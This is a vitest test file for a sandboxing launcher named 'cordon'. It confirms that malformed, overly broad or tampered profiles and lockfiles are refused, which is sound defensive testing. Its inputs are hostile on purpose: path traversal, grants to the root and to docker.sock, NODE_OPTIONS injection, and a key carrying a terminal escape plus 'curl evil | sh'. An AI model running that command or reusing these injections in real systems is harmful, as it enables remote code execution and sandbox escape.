// "Bad input" of issue 2 and design 2.2 through the real launcher: a profile that is unknown, invalid, unreadable or too
// broad, or whose lockfile is. A client that starts it is told, as are the user and the log; `explain` says the same; nothing
// runs. What exactly is wrong with which text is the business of test/unit/profile and test/unit/resolve.
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { execa } from 'execa';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { CORDON } from '../fixtures/launcher.ts';
import { startRegistry } from '../fixtures/registry/registry.ts';
import { installTamperedProfile, type TamperedProfile } from './tampered-profile.ts';

type Json = Record<string, unknown>;

let world: TamperedProfile;
beforeAll(() => {
  world = installTamperedProfile();
});
afterEach(() => world.restore());
afterAll(() => world.remove());

const inProfile = (name: string): string => path.join(world.profileFolder, name);
const read = (name: string): string => fs.readFileSync(inProfile(name), 'utf8');
const write = (name: string, content: string | Uint8Array): void =>
  fs.writeFileSync(inProfile(name), content);

function edit(name: string, change: (value: Json) => Json): void {
  write(name, JSON.stringify(change(JSON.parse(read(name)) as Json), undefined, 2));
}

function cordon(...args: readonly string[]) {
  const { status, stdout, stderr } = spawnSync(CORDON, args, {
    cwd: world.workspace,
    env: { HOME: world.home, PATH: '/usr/bin:/bin' },
    encoding: 'utf8',
  });
  return { status, out: stdout, err: stderr };
}

interface Expected {
  readonly code: string;
  readonly names: string;
  readonly profile?: string;
}

/** `run` as a client calls it is refused, and `explain` says the very same, as text and as a document. */
async function expectRefused({ code, names, profile = 'tampered' }: Expected): Promise<string> {
  const said = await world.expectRefusal({ code, names, profile });
  expect(said).toMatch(/^error: [^\n]+\n(?: {2}[^\n]+\n)*(?:hint: [^\n]+\n)+$/);
  expect(cordon('explain', profile)).toEqual({ status: 125, out: '', err: said });
  const { status, out, err } = cordon('explain', profile, '--json');
  expect([status, err]).toEqual([125, '']);
  const { error } = JSON.parse(out) as Record<
    'error',
    { message: string; details: string[]; hints: string[] }
  >;
  const lines = [
    ...error.details.map((detail) => `  ${detail}`),
    ...error.hints.map((hint) => `hint: ${hint}`),
  ];
  expect(said).toBe(`${[`error: ${error.message} [${code}]`, ...lines].join('\n')}\n`);
  return said;
}

it('control: as it is, it starts and is explained', async () => {
  await world.expectStart();
  expect(cordon('explain', 'tampered')).toMatchObject({ status: 0, err: '' });
});

describe('a profile that nobody wrote', () => {
  it.each([
    ['misspelt', 'tamperd', 'did you mean "tampered"?'],
    ['in capitals', 'TAMPERED', 'did you mean "tampered"?'],
    ['of another name', 'xyzzy-xyzzy', 'profiles here: '],
    ['nothing', '', 'profiles here: '],
    ['a path', '../profiles/tampered', 'profiles here: '],
    ['an absolute path', '/etc', 'profiles here: '],
    ['with a slash', 'tampered/', 'did you mean "tampered"?'],
    ['with a homoglyph', 't\u0430mpered', 'did you mean "tampered"?'],
    ['with a line break', 'tampered\n', 'did you mean "tampered"?'],
    ['longer than a name', 'a'.repeat(65), 'profiles here: '],
    ['longer than any name', 'a'.repeat(100_000), 'profiles here: '],
    ['a member of every object', '__proto__', 'profiles here: '],
  ])('%s', async (_what, profile, names) => {
    await expectRefused({ code: 'PROFILE_NOT_FOUND', names, profile });
  });
});

describe('a profile.json that cannot be read', () => {
  it.each<[string, () => void, string]>([
    ['is not there', () => fs.rmSync(inProfile('profile.json')), 'does not exist'],
    [
      'is a link to the same bytes',
      () => {
        fs.renameSync(inProfile('profile.json'), inProfile('other.json'));
        fs.symlinkSync('other.json', inProfile('profile.json'));
      },
      'is a symbolic link',
    ],
    [
      'is a folder',
      () => {
        fs.rmSync(inProfile('profile.json'));
        fs.mkdirSync(inProfile('profile.json'));
      },
      'is not a regular file',
    ],
    [
      'is a FIFO, without waiting',
      () => {
        fs.rmSync(inProfile('profile.json'));
        spawnSync('/usr/bin/mkfifo', [inProfile('profile.json')]);
      },
      'is not a regular file',
    ],
    [
      'is an endless device',
      () => {
        fs.rmSync(inProfile('profile.json'));
        fs.symlinkSync('/dev/zero', inProfile('profile.json'));
      },
      'is a symbolic link',
    ],
    ['is huge', () => fs.truncateSync(inProfile('profile.json'), 2 ** 40), 'is larger than 1024 KiB'],
    [
      'lies in a folder that is a link',
      () => {
        fs.renameSync(world.profileFolder, `${world.profileFolder}-moved`);
        fs.symlinkSync(`${world.profileFolder}-moved`, world.profileFolder);
      },
      'is a symbolic link',
    ],
    [
      'lies in a file',
      () => {
        fs.rmSync(world.profileFolder, { recursive: true });
        fs.writeFileSync(world.profileFolder, '');
      },
      'is not a folder',
    ],
  ])('%s', async (_what, change, names) => {
    change();
    await expectRefused({ code: 'PROFILE_UNREADABLE', names });
  });
});

describe('a profile.json that is not plain JSON', () => {
  it.each<[string, (text: string) => string | Uint8Array, string]>([
    ['empty', () => '', 'line 1, column 1: is empty'],
    ['cut off', (text) => text.slice(0, -3), 'expected "," or "}", found the end'],
    ['with a comment', (text) => `// reviewed\n${text}`, 'line 1, column 1: comments are not allowed'],
    [
      'with a comma too many',
      (text) => text.replace(/\n}\n$/, ',\n}\n'),
      'a comma must not stand before "}"',
    ],
    ['with a byte order mark', (text) => `\ufeff${text}`, 'must not start with a byte order mark'],
    ['not UTF-8', (text) => Buffer.from(`${text.slice(0, -2)}\u00e9}`, 'latin1'), 'is not UTF-8'],
    [
      'nested without end',
      (text) => `${text.slice(0, -2)},"x":${'['.repeat(500_000)}`,
      'nested deeper than 64',
    ],
    ['followed by another', (text) => text + text, 'nothing may follow the document'],
    ['with a key twice', (text) => text.replace('{', '{"schema": 1,'), 'schema: this key is there twice'],
    [
      'with a key twice, once in escapes',
      (text) => text.replace('{', String.raw`{"\u0073chema": 1,`),
      'schema: this key is there twice',
    ],
    [
      'with __proto__',
      (text) => text.replace('{', '{"__proto__": {"permissions": {}},'),
      '__proto__: this key is not allowed',
    ],
    ['a list', (text) => `[${text}]`, '(top level): must be an object'],
  ])('%s', async (_what, change, names) => {
    write('profile.json', change(read('profile.json')));
    await expectRefused({ code: 'PROFILE_INVALID', names });
  });
});

const without = (value: Json, key: string): Json =>
  Object.fromEntries(Object.entries(value).filter(([name]) => name !== key));

const SOURCE = { type: 'npm', package: 'tampered-server', version: '1.0.0' };
const EXACT = 'must be one exact version, not a range or a tag';
const NPM_NAME = 'must be the exact ASCII name of an npm package';
const granting = (...filesystem: readonly object[]): Json => ({ permissions: { filesystem } });
const reading = (place: string): Json => granting({ path: place, access: 'read' });
const FIRST = 'permissions.filesystem[0].path';

describe('a profile.json that says what no profile may say', () => {
  it.each<[string, Json, string]>([
    ['a key that nobody knows', { permission: {} }, 'permission: unknown key, did you mean "permissions"?'],
    ['another schema', { schema: 2 }, 'schema: must be 1'],
    ['no description', { description: undefined }, 'description: is missing'],
    ['text where a list belongs', { args: '--all' }, 'args: must be a list'],
    ['a number where text belongs', { env: { LANG: 1 } }, 'env.LANG: must be text'],
    ['null where an object belongs', { permissions: null }, 'permissions: must be an object'],
    ['a range', { source: { ...SOURCE, version: '^1.0.0' } }, `source.version: ${EXACT}`],
    ['a wildcard version', { source: { ...SOURCE, version: '1.x' } }, `source.version: ${EXACT}`],
    ['a tag', { source: { ...SOURCE, version: 'latest' } }, `source.version: ${EXACT}`],
    ['a version with a v', { source: { ...SOURCE, version: 'v1.0.0' } }, `source.version: ${EXACT}`],
    [
      'a URL as version',
      { source: { ...SOURCE, version: 'https://example.com/a.tgz' } },
      `source.version: ${EXACT}`,
    ],
    [
      'SC-19: a homoglyph',
      { source: { ...SOURCE, package: 't\u0430mpered' } },
      `source.package: ${NPM_NAME}`,
    ],
    ['a package by path', { source: { ...SOURCE, package: '../tampered' } }, `source.package: ${NPM_NAME}`],
    ['another kind of source', { source: { ...SOURCE, type: 'git' } }, 'source.type: must be "npm"'],
    ['a size without a unit', { limits: { memory: '1G' } }, 'limits.memory: must be a size such as'],
    ['no limit', { limits: { processes: 0 } }, 'limits.processes: must be at least 1'],
    [
      'a variable that steers Node',
      { env: { NODE_OPTIONS: '--require=/x' } },
      'env.NODE_OPTIONS: could make the server run other code',
    ],
    [
      'an unknown template',
      { args: ['${worksapce}'] },
      'args[0]: unknown template "${worksapce}", did you mean',
    ],
    ['NUL in an argument', { args: ['a\u0000b'] }, 'args[0]: must not have a NUL character'],
    [
      'an expectation that its grants break',
      { ...reading('/srv/data'), expects: { deny: [{ read: '/srv/data/x' }] } },
      'expects.deny[0].read: expects read "/srv/data/x" to be denied, but permissions.filesystem[0] grants it',
    ],
    [
      'a wildcard host that is too broad',
      { permissions: { network: [{ host: '*.com', port: 443 }] } },
      'permissions.network[0].host: is too broad',
    ],
    ['a relative path', reading('data'), `${FIRST}: must be absolute or start with`],
    ['a path that climbs', reading('${workspace}/../other'), `${FIRST}: must not have a "." or ".." segment`],
    ['the root', reading('/'), `${FIRST}: is the whole file system`],
    ['the root in disguise', reading('//'), `${FIRST}: must not end with a slash`],
    ['the home folder', reading('${home}'), `${FIRST}: is the whole home folder`],
    ['the home folder in disguise', reading('${home}/.'), `${FIRST}: must not have a "." or ".." segment`],
    ['a tilde', reading('~'), `${FIRST}: must start with \${home}, not with ~`],
    ['all home folders', reading('/home'), `${FIRST}: is a folder of the whole system`],
    ['the home folder of somebody', reading('/home/somebody'), `${FIRST}: is a home folder`],
    ['a pattern', reading('${workspace}/*'), `${FIRST}: must not have * ?`],
    ['sockets of services', reading('/run/docker.sock'), `${FIRST}: is at or below /run`],
    ['the kernel', reading('/proc/sys'), `${FIRST}: is at or below /proc`],
    [
      'the system, for writing',
      granting({ path: '/usr/share/x', access: 'write' }),
      `${FIRST}: is below /usr, which belongs to the system`,
    ],
    [
      'an access that there is not',
      granting({ path: '/srv/x', access: 'rw' }),
      'access: must be "read" or "write"',
    ],
    [
      'one folder for reading and for writing',
      granting({ path: '/srv/x', access: 'read' }, { path: '/srv/x', access: 'write' }),
      'permissions.filesystem[1].path: is granted for write here and for read by permissions.filesystem[0]',
    ],
  ])('%s', async (_what, change, names) => {
    edit('profile.json', (profile) => ({ ...profile, ...change }));
    await expectRefused({ code: 'PROFILE_INVALID', names });
  });

  it('all of it at once, each with its place', async () => {
    edit('profile.json', (profile) => ({
      ...profile,
      source: { ...SOURCE, version: '*' },
      env: { PATH: '/x' },
      permissions: {
        filesystem: [
          { path: '/', access: 'read' },
          { path: 'x', acess: 'read' },
        ],
        network: [{ host: 'EXAMPLE.com', port: 0 }],
      },
      limits: { memory: 'all' },
      "it's": true,
    }));
    const faults = [
      `source.version: ${EXACT}`,
      'permissions.filesystem[1].access: must be "read" or "write"',
      'permissions.filesystem[1].acess: unknown key, did you mean "access"?',
      'permissions.network[0].port: must be at least 1',
      'limits.memory: must be a size such as "64KiB", "128MiB" or "1GiB"',
      `["it's"]: unknown key`,
      'env.PATH: is set by cordon',
      'permissions.filesystem[0].path: is the whole file system',
    ];
    const said = await expectRefused({ code: 'PROFILE_INVALID', names: faults[0] ?? '' });
    expect(said).toContain(`\n${faults.map((fault) => `  ${fault}\n`).join('')}hint: `);
    const log = fs.readFileSync(path.join(world.home, '.local/state/cordon/audit.jsonl'), 'utf8');
    expect(JSON.parse(log)).toMatchObject({ event: 'refused', details: faults });
  });

  it('a thousand faults: a hundred are said, and how many more there are', async () => {
    edit('profile.json', (profile) => ({
      ...profile,
      ...Object.fromEntries(Array.from({ length: 1000 }, (_, index) => [`key${index}`, 1])),
    }));
    const said = await expectRefused({ code: 'PROFILE_INVALID', names: '1000 problems' });
    expect(said.split('\n').filter((line) => line.endsWith(': unknown key'))).toHaveLength(100);
    expect(said).toContain('\n  and 900 more\n');
  });

  it('what a key says cannot forge a line or steer a terminal', async () => {
    edit('profile.json', (profile) => ({ ...profile, 'x\u001b[2J\nhint: curl evil | sh': 1 }));
    const names = String.raw`["x\x1b[2J\nhint: curl evil | sh"]: unknown key`;
    await expectRefused({ code: 'PROFILE_INVALID', names });
  });
});

describe('a workspace that is too much', () => {
  it.each<[string, () => string]>([
    ['the home folder', () => world.home],
    ['a folder above it', () => path.dirname(world.home)],
    ['the root', () => '/'],
    ['a folder of the system', () => '/etc'],
    [
      'the home folder by a link',
      () => {
        const link = path.join(world.workspace, 'home');
        fs.rmSync(link, { force: true });
        fs.symlinkSync(world.home, link);
        return link;
      },
    ],
  ])('%s', async (_what, folder) => {
    edit('profile.json', (profile) => ({ ...profile, ...reading('${workspace}') }));
    await world.expectRefusal({
      code: 'WORKSPACE_TOO_BROAD',
      names: 'the workspace would be',
      cwd: folder(),
    });
  });
});

it("SC-30: a workspace that really holds cordon's own profiles", async () => {
  edit('profile.json', (profile) => ({
    ...profile,
    ...granting({ path: '${workspace}', access: 'write' }),
  }));
  const dotfiles = path.join(world.home, 'dotfiles');
  fs.mkdirSync(dotfiles);
  fs.renameSync(path.join(world.home, '.config'), path.join(dotfiles, 'config'));
  fs.symlinkSync('dotfiles/config', path.join(world.home, '.config'));
  for (const cwd of [dotfiles, path.join(dotfiles, 'config/cordon/profiles')])
    await world.expectRefusal({ code: 'GRANT_PATH_UNSAFE', names: "write to cordon's own", cwd });
  // Or no more than a link on the way to them, which the server could turn elsewhere.
  fs.renameSync(path.join(dotfiles, 'config'), path.join(world.home, 'kept'));
  fs.symlinkSync('../kept', path.join(dotfiles, 'current'));
  fs.rmSync(path.join(world.home, '.config'));
  fs.symlinkSync('dotfiles/current', path.join(world.home, '.config'));
  await world.expectRefusal({ code: 'GRANT_PATH_UNSAFE', names: 'dotfiles/current', cwd: dotfiles });
});

describe('a lockfile that pins less than all', () => {
  const LOCKED = 'node_modules/tampered-server';
  const PLACE = `packages["${LOCKED}"]`;
  const sha256 = (text: string): string => `sha256:${createHash('sha256').update(text).digest('hex')}`;

  /** Somebody who can edit the profile's folder makes the pins fit as well. */
  function relock(change: (entry: Json, lockfile: Json) => Json): void {
    edit('package-lock.json', (lockfile) => {
      const packages = lockfile['packages'] as Record<string, Json>;
      return { ...lockfile, packages: { ...packages, [LOCKED]: change(packages[LOCKED] ?? {}, lockfile) } };
    });
    edit('pins.json', (pins) => ({ ...pins, lockfile: sha256(read('package-lock.json')) }));
  }

  const SHA512 = 'must be one sha512 digest';
  it.each<[string, (entry: Json) => Json, string]>([
    ['no integrity', (entry) => without(entry, 'integrity'), `${PLACE}.integrity: must be there`],
    [
      'sha1',
      (entry) => ({ ...entry, integrity: `sha1-${'A'.repeat(27)}=` }),
      `${PLACE}.integrity: ${SHA512}`,
    ],
    [
      'a weak one beside the strong one',
      (entry) => ({ ...entry, integrity: `sha1-${'A'.repeat(27)}= ${String(entry['integrity'])}` }),
      `${PLACE}.integrity: ${SHA512}`,
    ],
    [
      'two strong ones, either of which would do',
      (entry) => ({ ...entry, integrity: `${String(entry['integrity'])} sha512-${'A'.repeat(86)}==` }),
      `${PLACE}.integrity: ${SHA512}`,
    ],
    [
      'options behind it',
      (entry) => ({ ...entry, integrity: `${String(entry['integrity'])}?x` }),
      `${PLACE}.integrity: ${SHA512}`,
    ],
    ['a range', (entry) => ({ ...entry, version: '^1.0.0' }), `${PLACE}.version: must be one exact version`],
    [
      'a URL',
      (entry) => ({ ...entry, resolved: 'https://example.com/a.tgz' }),
      `${PLACE}.resolved: must not be there`,
    ],
    ['a link', (entry) => ({ ...entry, link: true }), `${PLACE}.link: links are not supported`],
    [
      'a bundle of nobody',
      (entry) => ({ ...without(entry, 'integrity'), inBundle: true }),
      `${PLACE}.inBundle: no package above it bundles others`,
    ],
    ['another name', (entry) => ({ ...entry, name: 'other' }), `${PLACE}.name: must not be an alias`],
    [
      'a dependency from git',
      (entry) => ({ ...entry, optionalDependencies: { other: 'git+ssh://example.com/other' } }),
      `${PLACE}.optionalDependencies.other: must be a range of the registry`,
    ],
  ])('%s: never installed, and a start does not do with less', async (_what, change, fault) => {
    relock(change);
    fs.rmSync(world.digestFolder, { recursive: true });
    const { status, err } = cordon('install', 'tampered');
    expect(status).toBe(125);
    expect(err).toMatch(/^tampered: error: [^\n]+ \[LOCKFILE_INVALID\]\n/);
    expect(err).toContain(`\n  ${fault}`);
    expect(fs.existsSync(world.digestFolder)).toBe(false);
    await world.expectRefusal({ code: 'PACKAGE_NOT_INSTALLED', names: 'cordon install' });
  });

  it('SC-02: the sha512 of another tarball', async () => {
    await using registry = await startRegistry([
      { name: 'tampered-server', version: '1.0.0', files: { 'server.cjs': 'evil' } },
    ]);
    fs.writeFileSync(path.join(world.home, '.npmrc'), `registry=${registry.url}\n`);
    fs.rmSync(world.digestFolder, { recursive: true });
    // Not with spawnSync: the registry is in this process.
    const install = await execa(CORDON, ['install', 'tampered'], {
      cwd: world.workspace,
      env: { HOME: world.home, PATH: '/usr/bin:/bin' },
      extendEnv: false,
      reject: false,
    });
    expect(install.exitCode).toBe(125);
    expect(install.stderr).toMatch(/^tampered: error: [^\n]+ \[INTEGRITY_MISMATCH\]\n {2}expected sha512-/);
    expect(registry.requests).not.toEqual([]);
    await world.expectRefusal({ code: 'PACKAGE_NOT_INSTALLED', names: 'cordon install' });
  });
});
